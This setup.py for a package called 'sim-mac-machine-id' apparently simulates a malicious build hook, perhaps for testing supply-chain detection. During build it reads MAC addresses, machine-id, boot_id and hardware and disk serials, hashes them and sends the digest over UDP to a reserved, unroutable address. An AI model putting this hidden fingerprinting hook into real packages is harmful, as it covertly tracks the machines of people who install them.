# SPDX-License-Identifier: Apache-2.0
"""Harmless: it sends a hash to an address that is routed nowhere."""

import glob
import hashlib
import socket
import uuid

from setuptools import setup
from setuptools.command.build_py import build_py

PATTERNS = [
    "/sys/class/net/*/address",
    "/etc/machine-id",
    "/var/lib/dbus/machine-id",
    "/proc/sys/kernel/random/boot_id",
    "/sys/class/dmi/id/product_*",
    "/sys/class/dmi/id/board_serial",
    "/sys/block/*/device/serial",
    "/proc/partitions",
]


class Register(build_py):
    def run(self):
        build_py.run(self)
        digest = hashlib.sha256(str(uuid.getnode()).encode())
        for pattern in PATTERNS:
            for path in sorted(glob.glob(pattern)):
                try:
                    with open(path, "rb") as file:
                        digest.update(file.read())
                except OSError:
                    continue
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            out.sendto(digest.digest(), ("240.0.0.30", 9999))
        except OSError:
            pass


setup(name="sim-mac-machine-id", version="1.0.0", py_modules=["sim_mac_machine_id"], cmdclass={"build_py": Register})
